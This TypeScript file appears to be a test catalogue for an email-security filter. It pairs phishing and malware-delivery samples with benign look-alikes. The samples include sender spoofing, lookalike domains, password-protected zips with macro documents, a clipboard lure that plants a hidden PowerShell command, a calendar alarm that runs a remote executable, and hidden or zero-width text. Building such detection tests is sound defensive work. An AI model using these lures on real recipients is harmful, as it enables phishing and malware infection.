import { htmlFile, pdf, qrCode, script } from '../files/index.ts'
import { aMail, type Mail } from '../mail/index.ts'
import { calendar } from '../messages/index.ts'
import { docm, docWithMacro, docx } from '../office/index.ts'
import { zip } from '../zip/index.ts'
import { type CatalogueEntry, catalogueHouse } from './entry.ts'
import { carrying, one } from './mails.ts'

const [keiko, ichiro] = catalogueHouse.staff
const closed = () => zip('20230307.zip').encrypted('never-told').with(docWithMacro())

const named = (name: string, address: string): Mail => aMail().from(name, address).text('ご確認ください。')

/** The results are by the server of the house. */
const partner = (results: string): Mail =>
  named('ひかり介護センター', 'info@hikari.example.org').header(
    'Authentication-Results',
    `mx.midorino.example.com; ${results} header.from=hikari.example.org`,
  )

const salt = (count: number): string => Array.from({ length: count }, (_, at) => `lorem${at} ipsum`).join(' ')

export const letterEntries: readonly CatalogueEntry[] = [
  {
    id: 'A35',
    title: { ja: '知っている人の名前、知らないアドレス', en: 'A known name on an unknown address' },
    bad: [
      one('name of a colleague', () => named(keiko.name, 'x7@unrelated.example.net').attaching(docWithMacro())),
      one('other form of a letter, no space', () => named('高橋恵子', 'info@shop.example.net').attaching(closed())),
      one('address inside the name', () => named(`${ichiro.name} ${ichiro.address}`, 'a@mail.example.net')),
      one('address of a partner inside the name', () =>
        named('<ひかり介護センター> info@hikari.example.org', 'x7@unrelated.example.net').attaching(closed()),
      ),
      one('doubled quotes and title', () => named('"山崎 一郎 様"', 'a@mail.example.net').attaching(closed())),
      one('partner, name only', () => named('ひかり介護センター', 'a@mail.example.net').attaching(closed())),
    ],
    lookAlike: [
      one('the colleague herself', () => named(keiko.name, keiko.address)),
      one('somebody of the same family name', () => named('髙橋 太郎', 'taro@partner.example.com').attaching(docx())),
      one('the partner itself', () => named('ひかり介護センター', 'info@hikari.example.org').attaching(pdf())),
    ],
  },
  {
    id: 'A36',
    title: { ja: '自組織・官公庁のなりすまし', en: 'Impersonation of the house, an association, a ministry' },
    bad: [
      one('our domain in the name', () => named('総務課 soumu@midorino.example.com', 'a@mail.example.net').attaching(closed())),
      one('our name on an unrelated address', () => named('みどり野病院 総務課', 'noreply@mail.example.net').attaching(docm())),
      one('domain that looks like ours', () => named('総務課', 'soumu@rnidorino.example.com').attaching(closed())),
      one('domain that says it is not its own', () => partner('spf=fail; dmarc=fail (p=reject dis=none)')),
    ],
    lookAlike: [
      one('domain that answers for it', () =>
        partner('spf=pass smtp.mailfrom=hikari.example.org; dmarc=pass (p=reject dis=none)'),
      ),
      one('a server that the partner has forgotten to name', () => partner('spf=fail; dmarc=fail (p=none dis=none)')),
      one('partner writes about us', () => named('取引先', 'info@partner.example.com').subject('みどり野病院様 納品の件')),
    ],
  },
  {
    id: 'A41',
    title: { ja: '空の本文と日付だけのファイル名', en: 'Empty body and a file named by the date' },
    bad: [
      one('empty, zip of the date', () =>
        aMail().from('さくら介護施設', 'sakura@care.example.net').attaching(zip('20230307.zip').with(docWithMacro())),
      ),
      one('empty, closed zip', () => aMail().text('').attaching(closed())),
    ],
    lookAlike: [
      one('scan of a machine', () =>
        aMail()
          .text('')
          .attaching(pdf({ name: '20230307_1015.pdf' })),
      ),
    ],
  },
  {
    id: 'A43',
    title: { ja: 'リンクだけのメール', en: 'Mails with a link alone' },
    bad: [
      one('shows our domain, leads elsewhere', () =>
        aMail().html(
          '<p>請求書: <a href="http://shop.example.net/wp-content/x7/">https://www.midorino.example.com/seikyu.doc</a></p>',
        ),
      ),
      one('program behind a link', () => aMail().html('<a href="https://cdn.example.net/update/setup.msi">更新</a>')),
      one('zip on an IP address', () => aMail().text('http://203.0.113.77/doc/invoice.zip をご覧ください。')),
      one('IP address written as a number', () => aMail().html('<a href="http://3405803853/login">確認</a>')),
      one('run this by hand', () =>
        aMail()
          .html('<p>認証のため Win+R を押し、Ctrl+V のあと Enter を押してください。</p>')
          .attaching(
            htmlFile(
              '確認.html',
              '<html><body><p>Press Win+R, then Ctrl+V and Enter</p><script>navigator.clipboard.writeText("powershell -w hidden calc.exe")</script></body></html>',
            ),
          ),
      ),
      one('QR code in the mail', () =>
        aMail()
          .html('<p>スマートフォンで読み取ってください。</p><img src="cid:q1">')
          .attaching(qrCode(), { contentId: 'q1', disposition: 'inline' }),
      ),
      one('link in a document', () => carrying(docx({ links: ['https://files.example.net/a/invoice.js'] }))),
    ],
    lookAlike: [
      one('link to a page', () =>
        aMail().html('<p>ご案内は<a href="https://www.partner.example.com/annai.html">こちら</a>です。</p>'),
      ),
      one('address in words', () => aMail().text('詳しくは https://www.example.org/ をご覧ください。')),
    ],
  },
  {
    id: 'A44',
    title: { ja: 'カレンダーの招待', en: 'Calendar invitations' },
    bad: [
      one('script attached', () => carrying(calendar({ attachments: [script('js', 'agenda.js')] }))),
      one('document with macros attached', () => carrying(calendar({ attachments: [docm()] }))),
      one('link to a program', () => carrying(calendar({ url: 'https://files.example.net/update.exe' }))),
      one('alarm that runs a file', () =>
        carrying(
          calendar({
            lines: ['BEGIN:VALARM', 'ACTION:PROCEDURE', 'TRIGGER:-PT5M', 'ATTACH:file://192.0.2.6/a.exe', 'END:VALARM'],
          }),
        ),
      ),
      one('page with script', () =>
        carrying(calendar({ html: '<html><body><script>location="https://login.example.net/a"</script></body></html>' })),
      ),
    ],
    lookAlike: [
      one('meeting', () => carrying(calendar({ url: 'https://meet.example.org/abc' }))),
      one('meeting with its agenda', () => carrying(calendar({ attachments: [pdf({ name: 'agenda.pdf' })] }))),
    ],
  },
  {
    id: 'A45',
    title: { ja: '隠した文字', en: 'Hidden text' },
    bad: [
      one('password between hidden words', () =>
        aMail()
          .html(
            `<div style="display:none">${salt(200)}</div><p>パス<span style="font-size:0">x</span>ワード: 8848</p><div style="color:#fff;background:#fff">${salt(100)}</div>`,
          )
          .attaching(zip('a.zip').encrypted('8848').with(docWithMacro())),
      ),
      one('zero-width letters in the password line', () =>
        aMail()
          .text(`パ\u200bス\u200bワ\u200bー\u200bド\u200b: \u200bQ77x\n${'\u200b'.repeat(300)}`)
          .attaching(zip('a.zip').encrypted('Q77x').with(script('vbs'))),
      ),
      one('link text of zero-width letters', () =>
        aMail().html('<a href="https://login.example.net/a">https://www.mido\u200brino.example.com/</a>'),
      ),
    ],
    lookAlike: [
      one('line for the preview', () =>
        aMail().html('<div style="display:none;max-height:0">今月の病院だより</div><p>院内のお知らせです。</p>'),
      ),
      one('newsletter', () =>
        aMail()
          .header('List-Unsubscribe', '<https://news.partner.example.com/u>')
          .html(`<p>${'お知らせ。'.repeat(80)}</p><p style="font-size:1px">&nbsp;</p>`),
      ),
    ],
  },
]
